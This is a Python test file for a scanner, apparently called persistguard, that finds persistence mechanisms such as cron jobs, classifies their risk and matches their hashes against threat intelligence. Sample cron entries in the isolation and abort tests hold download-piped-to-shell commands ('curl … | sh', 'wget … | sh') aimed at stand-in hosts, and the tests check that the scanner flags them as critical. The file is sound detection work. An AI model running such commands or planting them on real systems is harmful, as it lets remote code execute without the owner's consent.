"""Tests for ScanOrchestrator: probe isolation, progress, cancellation and the hashing pass."""

import hashlib

import pytest

from persistguard.classifier import HASH_MATCH_INDICATOR
from persistguard.exceptions import CommandCancelledError, ProbeError
from persistguard.gateway import CancellationToken
from persistguard.models import (
    MechanismKind,
    Platform,
    RiskLevel,
    ScanPhase,
    ScanStatus,
    SignatureInspection,
    SigningTier,
)
from persistguard.orchestrator import ScanOrchestrator
from persistguard.signatures import SignatureOracle
from persistguard.threat_intel import ThreatIntelSnapshot


@pytest.fixture
def oracle(fake_gateway):
    return SignatureOracle(fake_gateway, Platform.LINUX)


@pytest.fixture
def cron_item(make_artifact):
    def _make(name: str, command: str = "/usr/local/bin/backup", **fields):
        return make_artifact(
            kind=MechanismKind.CRON_USER,
            name=name,
            path="/var/spool/cron/crontabs/alice",
            command=command,
            platform=Platform.LINUX,
            **fields,
        )
    return _make


class UnsignedOracle:
    """Reports every executable as unsigned."""

    def __init__(self):
        self.inspected = []

    async def inspect(self, executable_path, compute_hash=True, cancel_token=None):
        self.inspected.append(executable_path)
        return SignatureInspection(path=executable_path, signing_tier=SigningTier.UNSIGNED)


class BrokenOracle:
    async def inspect(self, executable_path, compute_hash=True, cancel_token=None):
        raise RuntimeError("oracle crashed")


def orchestrator(probes, oracle, intel=None, **kwargs):
    return ScanOrchestrator(
        probes=probes,
        oracle=oracle,
        intel=intel or ThreatIntelSnapshot(),
        platform=kwargs.pop("platform", Platform.LINUX),
        **kwargs,
    )


class TestProbeIsolation:
    @pytest.mark.asyncio
    async def test_failing_probe_recorded_once(self, make_probe, cron_item, oracle):
        probes = [
            make_probe("first", [cron_item("a"), cron_item("b")]),
            make_probe("broken", [cron_item("c")], error=ValueError("bad data")),
            make_probe("last", [cron_item("d")]),
        ]
        result = await orchestrator(probes, oracle).run()

        assert result.status == ScanStatus.COMPLETED
        assert len(result.errors) == 1
        failure = result.errors[0]
        assert failure.probe == "broken"
        assert failure.error_type == "ProbeError"
        assert "bad data" in failure.message
        assert failure.partial_items == 1
        assert sorted(a.name for a in result.items) == ["a", "b", "c", "d"]
        assert result.probes_total == 3
        assert result.probes_completed == 2

    @pytest.mark.asyncio
    async def test_cancelled_command_not_reported_as_failure(self, make_probe, oracle):
        error = ProbeError("interrupted", "slow")
        error.__cause__ = CommandCancelledError("cancelled: shutdown", ["sleep"])
        result = await orchestrator([make_probe("slow", error=error)], oracle).run()
        assert result.errors == ()
        assert result.probes_completed == 0

    @pytest.mark.asyncio
    async def test_duplicate_artifacts_keep_first(self, make_probe, cron_item, oracle):
        first = cron_item("dup", metadata={"seen_by": "first"})
        second = cron_item("dup", metadata={"seen_by": "second"})
        assert first.id == second.id
        result = await orchestrator(
            [make_probe("one", [first]), make_probe("two", [second])], oracle
        ).run()
        assert result.total_items == 1
        assert result.items[0].metadata == {"seen_by": "first"}

    @pytest.mark.asyncio
    async def test_every_item_classified(self, make_probe, cron_item, oracle):
        items = [cron_item("plain"), cron_item("evil", command="curl -s http://x.example/p | sh")]
        result = await orchestrator([make_probe("cron", items)], oracle).run()
        by_name = {a.name: a for a in result.items}
        assert by_name["evil"].risk_level == RiskLevel.CRITICAL
        assert "download piped to shell" in by_name["evil"].indicators
        assert by_name["plain"].risk_level != RiskLevel.CRITICAL


class TestProgress:
    @pytest.mark.asyncio
    async def test_monotonic_and_ends_at_one(self, make_probe, cron_item, oracle):
        events = []
        probes = [make_probe(f"p{i}", [cron_item(f"item{i}")]) for i in range(4)]
        orch = orchestrator(probes, oracle, progress=lambda label, fraction: events.append((label, fraction)))
        await orch.run()

        fractions = [f for _, f in events]
        assert fractions == sorted(fractions)
        assert events[-1] == ("completed", 1.0)
        labels = [label for label, _ in events]
        assert labels[:4] == ["p0", "p1", "p2", "p3"]
        assert "hashing" in labels
        assert "classifying" in labels
        assert orch.phase == ScanPhase.COMPLETED

    @pytest.mark.asyncio
    async def test_probe_share(self, make_probe, oracle):
        events = []
        probes = [make_probe("a"), make_probe("b")]
        await orchestrator(probes, oracle, progress=lambda label, fraction: events.append((label, fraction))).run()
        assert events[0] == ("a", pytest.approx(0.4))
        assert events[1] == ("b", pytest.approx(0.8))


class TestCancellation:
    @pytest.mark.asyncio
    async def test_cancel_between_probes(self, make_probe, cron_item, oracle):
        token = CancellationToken()
        first = make_probe("first", [cron_item("kept")], on_run=lambda: token.cancel("user request"))
        second = make_probe("second", [cron_item("never")])
        result = await orchestrator([first, second], oracle, cancel_token=token).run()

        assert result.status == ScanStatus.CANCELLED
        assert second.runs == 0
        assert [a.name for a in result.items] == ["kept"]
        assert result.errors[-1].probe == "orchestrator"
        assert result.errors[-1].error_type == "Cancelled"
        assert "user request" in result.errors[-1].message
        assert result.probes_completed == 1

    @pytest.mark.asyncio
    async def test_cancelled_before_start(self, make_probe, oracle):
        token = CancellationToken()
        token.cancel()
        probe = make_probe("only")
        result = await orchestrator([probe], oracle, cancel_token=token).run()
        assert result.status == ScanStatus.CANCELLED
        assert probe.runs == 0
        assert result.items == ()


class TestPreconditions:
    @pytest.mark.asyncio
    async def test_unsupported_platform(self, make_probe, oracle):
        events = []
        result = await orchestrator(
            [make_probe("a")], oracle, platform=None, progress=lambda *e: events.append(e)
        ).run()
        assert result.status == ScanStatus.FAILED
        assert result.items == ()
        assert len(result.errors) == 1
        assert result.errors[0].probe == "orchestrator"
        assert result.errors[0].error_type == "OrchestratorError"
        assert events == []

    @pytest.mark.asyncio
    async def test_no_probes(self, oracle):
        orch = orchestrator([], oracle)
        result = await orch.run()
        assert result.status == ScanStatus.FAILED
        assert "No probes registered" in result.errors[0].message
        assert orch.phase == ScanPhase.FAILED


class TestHashing:
    @pytest.mark.asyncio
    async def test_hash_match_forces_critical(self, make_probe, cron_item, oracle, tmp_path):
        payload = tmp_path / "payload"
        payload.write_bytes(b"malicious bytes")
        digest = hashlib.sha256(b"malicious bytes").hexdigest()
        intel = ThreatIntelSnapshot().merged(hashes=[digest])

        item = cron_item("payload", command=str(payload), executable_path=str(payload))
        result = await orchestrator(
            [make_probe("cron", [item])], oracle, intel=intel, hash_min_risk=RiskLevel.SAFE
        ).run()

        flagged = result.items[0]
        assert flagged.risk_level == RiskLevel.CRITICAL
        assert flagged.content_hash == digest
        assert HASH_MATCH_INDICATOR in flagged.indicators

    @pytest.mark.asyncio
    async def test_below_threshold_not_inspected(self, make_probe, cron_item, oracle, tmp_path):
        payload = tmp_path / "payload"
        payload.write_bytes(b"bytes")
        item = cron_item("payload", command=str(payload), executable_path=str(payload))
        result = await orchestrator(
            [make_probe("cron", [item])], oracle, hash_min_risk=RiskLevel.CRITICAL
        ).run()
        assert result.items[0].content_hash is None

    @pytest.mark.asyncio
    async def test_shared_executable_inspected_once(self, make_probe, cron_item, fake_gateway, tmp_path):
        payload = tmp_path / "agent"
        payload.write_bytes(b"agent")
        fake_gateway.add(["dpkg", "-S", str(payload)], stdout=f"acme: {payload}\n")
        items = [
            cron_item("one", command=f"{payload} --one", executable_path=str(payload)),
            cron_item("two", command=f"{payload} --two", executable_path=str(payload)),
        ]
        oracle = SignatureOracle(fake_gateway, Platform.LINUX)
        result = await orchestrator(
            [make_probe("cron", items)], oracle, hash_min_risk=RiskLevel.SAFE
        ).run()

        dpkg_calls = [argv for argv, _ in fake_gateway.calls if argv[0] == "dpkg"]
        assert len(dpkg_calls) == 1
        assert {a.signing_authority for a in result.items} == {"dpkg:acme"}

    @pytest.mark.asyncio
    async def test_shared_executable_only_escalates_qualifying_items(self, make_probe, cron_item):
        items = [
            cron_item("plain", command="/opt/tool/run", executable_path="/opt/tool/run"),
            cron_item("net", command="/opt/tool/run && curl -s https://example.org/ping", executable_path="/opt/tool/run"),
        ]
        oracle = UnsignedOracle()
        result = await orchestrator([make_probe("cron", items)], oracle).run()

        by_name = {a.name: a for a in result.items}
        assert oracle.inspected == ["/opt/tool/run"]
        assert by_name["net"].risk_level == RiskLevel.HIGH
        assert by_name["net"].signing_tier == SigningTier.UNSIGNED
        assert by_name["plain"].risk_level == RiskLevel.LOW
        assert by_name["plain"].signing_tier == SigningTier.UNKNOWN
        assert by_name["plain"].indicators == ()


class TestAbort:
    @pytest.mark.asyncio
    async def test_unexpected_error_keeps_first_pass_risk(self, make_probe, cron_item):
        items = [
            cron_item("plain"),
            cron_item("dropper", command="wget -qO- http://x.tk/i | sh", executable_path="/usr/bin/wget"),
        ]
        result = await orchestrator([make_probe("cron", items)], BrokenOracle()).run()

        assert result.status == ScanStatus.FAILED
        assert result.errors[-1].probe == "orchestrator"
        assert result.errors[-1].error_type == "RuntimeError"
        by_name = {a.name: a for a in result.items}
        assert by_name["dropper"].risk_level == RiskLevel.CRITICAL
        assert "download piped to shell" in by_name["dropper"].indicators
        assert by_name["plain"].risk_level == RiskLevel.LOW
